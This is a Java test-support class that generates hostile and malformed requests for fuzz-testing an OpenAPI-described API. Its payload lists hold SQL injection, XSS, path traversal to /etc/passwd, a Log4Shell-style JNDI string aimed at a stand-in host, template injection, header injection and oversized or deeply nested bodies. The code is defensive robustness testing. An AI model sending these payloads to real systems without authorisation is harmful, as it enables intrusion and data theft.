package org.aula.testsupport;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.UUID;

import org.aula.testsupport.OpenApiProbe.Attack;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.ObjectNode;

/** Builds the malformed and hostile requests {@link OpenApiProbe#hostileInputs} sends for one operation. */
final class HostileRequests {

    private static final String RAW = "__aula_probe_raw_value__";

    /** JSON literals put in place of one string field: injections, control and edge-case characters. */
    private static final List<String> HOSTILE_JSON_STRINGS = List.of(
            "\"' OR 1=1 --\"",
            "\"'; DROP TABLE participant; --\"",
            "\"\\\" OR \\\"\\\"=\\\"\"",
            "\"<script>alert(1)</script>\"",
            "\"../../etc/passwd\"",
            "\"${jndi:ldap://probe.invalid/a}\"",
            "\"{{7*7}}#{7*7}${7*7}\"",
            "\"\\u0000\"",
            "\"probe\\u0000probe\"",
            "\"\\ud800\"",
            "\"\\udfff\\ud800\"",
            "\"\\u202e\\u200b\\ufeff\"",
            "\"\uD83D\uDE00\uD83C\uDFF3\uFE0F\u200D\uD83C\uDF08\"",
            "\"e\\u0301\\u0301\\u0301\\u0301\"",
            "\"\"",
            "\"   \"",
            "\"%00%2e%2e%2f\"",
            "\"\\r\\nX-Injected: 1\"");

    /** Values put in a path or query parameter (URL-encoded when sent). */
    private static final List<String> HOSTILE_PARAMETERS = List.of(
            "not-a-uuid", "00000000-0000-0000-0000-00000000000Z", "' OR 1=1 --", "<script>alert(1)</script>",
            "../../etc/passwd", "${jndi:ldap://probe.invalid/a}", "\u0000", "%", "\uD83D\uDE00", "\u202e",
            "-1", "0", "99999999999999999999", "1.5", "null", "true", " ", "A".repeat(4000));

    private static final List<String> MALFORMED_BODIES = List.of(
            "{", "{\"a\":}", "not json", "[]", "null", "\"\"", "123", "", "{}{}", "{\"a\":1,}",
            "{\"a\":\"\\uZZZZ\"}", "1e999999999", "[".repeat(5000) + "]".repeat(5000),
            "{\"a\":".repeat(3000) + "1" + "}".repeat(3000));

    private final ApiOperation operation;
    private final long maxRequestBytes;
    private final JsonNode sample;
    private final List<OpenApiProbe.ProbeRequest> requests = new ArrayList<>();

    private HostileRequests(ApiOperation operation, long maxRequestBytes) {
        this.operation = operation;
        this.maxRequestBytes = maxRequestBytes;
        this.sample = operation.hasBody() ? SampleValues.of(operation.requestBodySchema()) : null;
    }

    static List<OpenApiProbe.ProbeRequest> of(ApiOperation operation, Set<Attack> attacks, long maxRequestBytes) {
        HostileRequests builder = new HostileRequests(operation, maxRequestBytes);
        if (attacks.contains(Attack.UNKNOWN_AND_MALFORMED_IDS)) {
            builder.pathParameters();
        }
        if (attacks.contains(Attack.QUERY_VALUES)) {
            builder.queryParameters();
        }
        if (operation.hasBody()) {
            if (attacks.contains(Attack.MALFORMED_JSON)) {
                MALFORMED_BODIES.forEach(body -> builder.body(Attack.MALFORMED_JSON, abbreviate(body), "application/json", body));
                builder.add(Attack.MALFORMED_JSON, "invalid UTF-8", null, null, "application/json",
                        new byte[] {'{', '"', 'a', '"', ':', '"', (byte) 0xC3, (byte) 0x28, '"', '}'}, false);
            }
            if (attacks.contains(Attack.WRONG_CONTENT_TYPE)) {
                builder.body(Attack.WRONG_CONTENT_TYPE, "text/plain", "text/plain", builder.sampleJson());
                builder.body(Attack.WRONG_CONTENT_TYPE, "application/xml", "application/xml", "<probe><a>1</a></probe>");
                builder.body(Attack.WRONG_CONTENT_TYPE, "form", "application/x-www-form-urlencoded", "a=1&b=2");
                builder.body(Attack.WRONG_CONTENT_TYPE, "no content type", null, builder.sampleJson());
            }
            if (attacks.contains(Attack.WRONG_TYPES)) {
                builder.wrongTypes();
            }
            if (attacks.contains(Attack.HOSTILE_STRINGS)) {
                builder.hostileStrings();
            }
            if (attacks.contains(Attack.ABSENT_OPTIONALS)) {
                builder.absentOptionals();
            }
            if (attacks.contains(Attack.OVERSIZED_BODY)) {
                byte[] oversized = oversizedBody(maxRequestBytes + 1);
                builder.add(Attack.OVERSIZED_BODY, (maxRequestBytes + 1) + " bytes with Content-Length", null, null,
                        "application/json", oversized, false);
                builder.add(Attack.OVERSIZED_BODY, (maxRequestBytes + 1) + " bytes chunked", null, null,
                        "application/json", oversized, true);
            }
        }
        return builder.requests;
    }

    private void pathParameters() {
        for (ApiOperation.Parameter parameter : operation.parameters("path")) {
            List<String> values = new ArrayList<>(HOSTILE_PARAMETERS);
            values.add(0, UUID.randomUUID().toString());
            for (String value : values) {
                add(Attack.UNKNOWN_AND_MALFORMED_IDS, "path " + parameter.name() + "=" + abbreviate(value),
                        parameter.name(), value, null, null, false);
            }
        }
    }

    private void queryParameters() {
        for (ApiOperation.Parameter parameter : operation.parameters("query")) {
            for (String value : HOSTILE_PARAMETERS) {
                OpenApiProbe.ProbeRequest request = new OpenApiProbe.ProbeRequest(operation, Attack.QUERY_VALUES,
                        "query " + parameter.name() + "=" + abbreviate(value), null, null, parameter.name(), value,
                        operation.hasBody() ? "application/json" : null, operation.hasBody() ? sampleBytes() : null, false);
                requests.add(request);
            }
        }
    }

    private void wrongTypes() {
        for (SampleValues.Leaf leaf : SampleValues.leaves(operation.requestBodySchema(), sample)) {
            for (String literal : wrongTypeLiterals(leaf)) {
                body(Attack.WRONG_TYPES, leaf.pointer() + "=" + abbreviate(literal), "application/json", replaced(leaf.pointer(), literal));
            }
            if (leaf.required()) {
                body(Attack.WRONG_TYPES, leaf.pointer() + "=null (required)", "application/json", replaced(leaf.pointer(), "null"));
                if (!leaf.arrayItem()) {
                    body(Attack.WRONG_TYPES, leaf.pointer() + " absent (required)", "application/json", removed(leaf.pointer()));
                }
            }
        }
    }

    private void hostileStrings() {
        String longString = "\"" + "A".repeat((int) Math.max(16, Math.min(100_000, maxRequestBytes / 4))) + "\"";
        for (SampleValues.Leaf leaf : SampleValues.leaves(operation.requestBodySchema(), sample)) {
            if (!leaf.type().equals("string")) {
                continue;
            }
            for (String literal : HOSTILE_JSON_STRINGS) {
                body(Attack.HOSTILE_STRINGS, leaf.pointer() + "=" + abbreviate(literal), "application/json", replaced(leaf.pointer(), literal));
            }
            body(Attack.HOSTILE_STRINGS, leaf.pointer() + "=<" + (longString.length() - 2) + " characters>", "application/json",
                    replaced(leaf.pointer(), longString));
        }
    }

    private void absentOptionals() {
        for (SampleValues.Leaf leaf : SampleValues.leaves(operation.requestBodySchema(), sample)) {
            if (!leaf.required() && leaf.pointer().lastIndexOf('/') == 0) {
                body(Attack.ABSENT_OPTIONALS, leaf.pointer() + "=null", "application/json", replaced(leaf.pointer(), "null"));
                body(Attack.ABSENT_OPTIONALS, leaf.pointer() + " absent", "application/json", removed(leaf.pointer()));
            }
        }
    }

    private static List<String> wrongTypeLiterals(SampleValues.Leaf leaf) {
        String format = leaf.schema().path("format").asString("");
        return switch (leaf.type()) {
            case "string" -> switch (format) {
                case "uuid" -> List.of("{}", "[]", "\"not-a-uuid\"", "\"00000000-0000-0000-0000-00000000000Z\"");
                case "date" -> List.of("{}", "[]", "\"not-a-date\"", "\"2019-02-30\"", "\"2019-13-45\"");
                case "date-time" -> List.of("{}", "[]", "\"not-a-time\"", "\"2019-05-13T25:61:00Z\"");
                case "email" -> List.of("{}", "[]", "\"not-an-email\"");
                default -> List.of("{}", "[]", "{\"$gt\":\"\"}");
            };
            case "integer" -> List.of("\"abc\"", "99999999999999999999999", "1e999999", "-2147483649", "[]", "{}", "\"NaN\"");
            case "number" -> List.of("\"abc\"", "\"NaN\"", "1e999999", "-1e999999", "[]", "{}");
            case "boolean" -> List.of("\"maybe\"", "[]", "{}");
            case "array" -> List.of("{}", "\"x\"", "[null]");
            default -> List.of("\"x\"", "[]", "1");
        };
    }

    private String replaced(String pointer, String rawLiteral) {
        JsonNode copy = sample.deepCopy();
        set(copy, pointer, JsonMapper.shared().getNodeFactory().stringNode(RAW));
        return JsonMapper.shared().writeValueAsString(copy).replace("\"" + RAW + "\"", rawLiteral);
    }

    private String removed(String pointer) {
        JsonNode copy = sample.deepCopy();
        JsonNode parent = copy.at(pointer.substring(0, pointer.lastIndexOf('/')));
        String name = pointer.substring(pointer.lastIndexOf('/') + 1);
        if (parent instanceof ObjectNode object) {
            object.remove(name);
        } else if (parent instanceof ArrayNode array) {
            array.remove(Integer.parseInt(name));
        }
        return JsonMapper.shared().writeValueAsString(copy);
    }

    private static void set(JsonNode root, String pointer, JsonNode value) {
        JsonNode parent = root.at(pointer.substring(0, pointer.lastIndexOf('/')));
        String name = pointer.substring(pointer.lastIndexOf('/') + 1);
        if (parent instanceof ObjectNode object) {
            object.set(name, value);
        } else if (parent instanceof ArrayNode array) {
            array.set(Integer.parseInt(name), value);
        }
    }

    private String sampleJson() {
        return JsonMapper.shared().writeValueAsString(sample);
    }

    private byte[] sampleBytes() {
        return sampleJson().getBytes(StandardCharsets.UTF_8);
    }

    private void body(Attack attack, String description, String contentType, String body) {
        add(attack, description, null, null, contentType, body.getBytes(StandardCharsets.UTF_8), false);
    }

    private void add(Attack attack, String description, String pathParameter, String pathValue, String contentType,
            byte[] body, boolean chunked) {
        byte[] sent = body;
        String type = contentType;
        if (sent == null && operation.hasBody()) {
            sent = sampleBytes();
            type = "application/json";
        }
        requests.add(new OpenApiProbe.ProbeRequest(operation, attack, description, pathParameter, pathValue, null, null,
                type, sent, chunked));
    }

    private static byte[] oversizedBody(long size) {
        String prefix = "{\"probe\":\"";
        String suffix = "\"}";
        int padding = (int) Math.max(0, size - prefix.length() - suffix.length());
        return (prefix + "A".repeat(padding) + suffix).getBytes(StandardCharsets.UTF_8);
    }

    static String abbreviate(String value) {
        String printable = value.replace("\u0000", "\\0").replace("\r", "\\r").replace("\n", "\\n");
        return printable.length() <= 40 ? printable : printable.substring(0, 37) + "...(" + value.length() + " chars)";
    }
}
